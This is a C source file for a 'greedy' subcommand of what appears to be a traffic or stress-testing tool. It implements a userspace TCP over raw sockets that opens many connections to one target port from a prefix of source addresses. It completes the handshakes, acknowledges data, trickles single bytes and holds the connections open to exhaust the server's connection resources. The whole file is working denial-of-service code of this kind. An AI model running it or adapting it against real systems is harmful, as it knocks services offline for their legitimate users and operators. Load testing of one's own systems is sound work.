// SPDX-License-Identifier: GPL-2.0-only
/*
 * A few sources that complete their handshakes and keep what they opened: a
 * TCP that is just enough for that, so that its own kernel sets no limits.
 */
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#include "raw.h"
#include "traffic.h"

static const char usage[] =
	"usage: traffic greedy -i INTERFACE -g GATEWAY-MAC -s SOURCES -d ADDRESS -p PORT\n"
	"                      -r RATE -n COUNT -t SECONDS [-a SECONDS]\n"
	"SOURCES: a prefix; all of its addresses take part\n"
	"-a: every connection carries a byte that often\n"
	"Opens COUNT connections, RATE a second, and keeps them until SECONDS have passed.\n";

/* A SYN without an answer is repeated so often, after 1, 2, 4 ... seconds. */
#define SYN_RETRIES	3
#define FIRST_PORT	1024
#define PORTS		64000

enum state { CLOSED, SYN_SENT, OPEN, RESET };

/**
 * struct conn - one connection
 * @state: how far it is
 * @tries: SYNs sent
 * @snd: next sequence number that is not acknowledged
 * @rcv: next one that is expected
 * @next: when to do something about it
 */
struct conn {
	enum state state;
	unsigned int tries;
	uint32_t snd;
	uint32_t rcv;
	double next;
};

static struct raw raw;
static struct attack attack;
static struct conn *conns;
static unsigned int opened, answered, resets, carried;

static void send_segment(unsigned int i, uint8_t flags, unsigned int size)
{
	struct segment s = {
		.saddr = attack.sources.net + i % attack.sources.size,
		.daddr = attack.target.net,
		.sport = FIRST_PORT + i / attack.sources.size,
		.dport = attack.port,
		.seq = conns[i].snd,
		.ack = flags & TH_ACK ? conns[i].rcv : 0,
		.size = size,
		.flags = flags,
	};

	raw_tcp(&raw, &s);
}

static void send_syn(unsigned int i, double t)
{
	struct conn *c = &conns[i];

	send_segment(i, TH_SYN, 0);
	c->next = t + (1 << c->tries++);
}

static void handle(const struct segment *s, double t, double active)
{
	unsigned int source = s->daddr - attack.sources.net, i;
	struct conn *c;

	if (s->saddr != attack.target.net || s->sport != attack.port ||
	    source >= attack.sources.size || s->dport < FIRST_PORT)
		return;
	i = (s->dport - FIRST_PORT) * attack.sources.size + source;
	if (i >= opened)
		return;
	c = &conns[i];
	if (s->flags & TH_RST) {
		if (c->state != RESET)
			resets++;
		c->state = RESET;
		return;
	}
	if ((s->flags & (TH_SYN | TH_ACK)) == (TH_SYN | TH_ACK)) {
		if (c->state == SYN_SENT) {
			c->state = OPEN;
			c->snd = s->ack;
			c->rcv = s->seq + 1;
			/* Spread: not all of them at once. */
			c->next = t + active * (i % 64 + 1) / 64;
			answered++;
		}
		if (c->state == OPEN)
			send_segment(i, TH_ACK, 0);
		return;
	}
	if (c->state != OPEN)
		return;
	if (s->flags & TH_ACK && s->ack == c->snd + 1) {
		c->snd++;
		carried++;
	}
	if (s->size || s->flags & TH_FIN) {
		if (s->seq == c->rcv)
			c->rcv += s->size + !!(s->flags & TH_FIN);
		send_segment(i, TH_ACK, 0);
	}
}

/* SYNs to repeat, bytes to send. */
static void look_after(double t, double active)
{
	unsigned int i;

	for (i = 0; i < opened; i++) {
		struct conn *c = &conns[i];

		if (c->next > t)
			continue;
		if (c->state == SYN_SENT && c->tries <= SYN_RETRIES) {
			send_syn(i, t);
		} else if (c->state == OPEN && active) {
			send_segment(i, TH_ACK | TH_PSH, 1);
			c->next = t + active;
		}
	}
}

static void play(double active)
{
	struct pollfd wait = { .fd = raw.fd, .events = POLLIN };
	double start = now(), looked = start, t;
	struct segment s;
	int got;

	while (!stopped && (t = now()) < start + attack.seconds) {
		while (opened < attack.count &&
		       opened < (t - start) * attack.rate) {
			conns[opened] = (struct conn){
				.state = SYN_SENT,
				.snd = random64(),
			};
			send_syn(opened++, t);
			/* Behind? The answers come first. */
			if (raw.waiting == RAW_BATCH)
				break;
		}
		raw_flush(&raw);
		while ((got = raw_receive(&raw, &s)) >= 0)
			if (got)
				handle(&s, t, active);
		if (t > looked + 0.05) {
			look_after(t, active);
			looked = t;
		}
		raw_flush(&raw);
		poll(&wait, 1, 2);
	}
}

int cmd_greedy(int argc, char **argv)
{
	double active = 0;
	int opt;

	while ((opt = getopt(argc, argv, ATTACK_OPTIONS "a:")) != -1) {
		if (opt == 'a') {
			active = parse_number(optarg, 0.1, 600);
		} else if (!attack_option(&attack, opt, optarg)) {
			fputs(usage, stderr);
			return 2;
		}
	}
	if (!attack_complete(&attack) || attack.target.size != 1 || !attack.port)
		die("greedy: something is missing\n%s", usage);
	if (attack.count > (uint64_t)attack.sources.size * PORTS)
		die("greedy: so many connections need more sources");
	conns = calloc(attack.count, sizeof(*conns));
	if (!conns)
		die("no memory");

	catch_signals();
	raw_open(&raw, attack.dev, attack.mac);
	play(active);
	printf("{\"opened\": %u, \"answered\": %u, \"resets\": %u, \"carried\": %u}\n",
	       opened, answered, resets, carried);
	free(conns);
	return 0;
}
